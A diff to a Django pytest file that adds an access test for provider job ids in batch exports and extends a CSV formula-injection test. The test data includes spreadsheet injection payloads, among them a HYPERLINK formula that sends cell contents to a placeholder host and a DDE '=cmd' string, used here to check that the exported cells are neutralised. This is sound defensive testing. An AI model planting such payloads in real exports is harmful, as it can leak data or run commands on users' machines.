@@ -13,7 +13,7 @@ import pytest
 from django.conf import settings
 from django.test import Client
 
-from batches import storage
+from batches import cells, storage
 from batches.models import AuditEntry, Batch, BatchItem, Job, JobState
 from tests.factories import NOW, make_accepted_job, make_job, make_saved_job
 from tests.web.conftest import CASES
@@ -74,6 +74,19 @@ def test_a_complete_batch_accounts_for_every_row_and_byte(batch: Batch, operator
     ]
     assert table(archive, "failed.csv") == []
     assert AuditEntry.objects.get().facts == {"documents": 2, "rows": 2}
+
+
+def test_only_who_may_reveal_a_provider_job_gets_its_id_whole(batch: Batch, operator: Client, viewer: Client) -> None:
+    """Whoever has the id can fetch the file at the provider."""
+    whole = saved(batch, "INV-1", b"%PDF-1.7 one").submissions.get().provider_job_id
+    assert whole
+    for client, may in ((operator, True), (viewer, False)):
+        lists = [table(archive_of(batch, client)[1], "manifest.csv")[0]["provider_job_id"]]
+        for kind in ("csv", "jsonl"):
+            answer: Any = client.get(f"/batches/{batch.public_id}/results.{kind}")
+            assert answer.status_code == 200
+            lists.append(b"".join(answer.streaming_content).decode())
+        assert [whole in each for each in lists] == [may] * 3
 
 
 def test_a_partial_batch_says_so_and_gives_the_failed_rows_back(batch: Batch, operator: Client) -> None:
@@ -243,7 +256,7 @@ def test_rows_of_json_may_each_have_their_own_columns(batch: Batch, operator: Cl
 
 
 def test_nothing_in_the_failed_list_runs_as_a_formula(batch: Batch, operator: Client) -> None:
-    """Case 124. What is guarded is the text itself with one apostrophe before it."""
+    """Case 124. What is guarded is the text itself with one apostrophe before it, and so no two texts are one cell."""
     ids = [
         '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
         "@SUM(1+1)",
@@ -251,14 +264,19 @@ def test_nothing_in_the_failed_list_runs_as_a_formula(batch: Batch, operator: Cl
         "-5",
         "\t=1+1",
         "'=quoted",
+        "''=quoted twice",
+        "=quoted",
+        "'tis plain",
     ]
     for business_id in ids:
         job = make_job(batch=batch, state=JobState.FAILED, failure_words="=cmd|' /C calc'!A0")
         given(job, {"id": business_id, "n": -5, "=head": "x"})
     head, *rows = failed_list(batch, operator)
-    cells = [cell for row in (head, *rows) for cell in row]
-    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "@") or cell[:1] in ("\t", "\r", "\n")]
-    assert [row[0].removeprefix("'") for row in rows[:5]] == ids[:5]
+    written = [cell for row in (head, *rows) for cell in row]
+    assert not [cell for cell in written if cell.lstrip()[:1] in ("=", "+", "@") or cell[:1] in ("\t", "\r", "\n")]
+    assert [cells.unguarded(row[0]) for row in rows] == ids
+    assert len({row[0] for row in rows}) == len(ids)
+    assert rows[-1][0] == "'tis plain"
     assert {row[head.index("n")] for row in rows} == {"-5"}
 
 
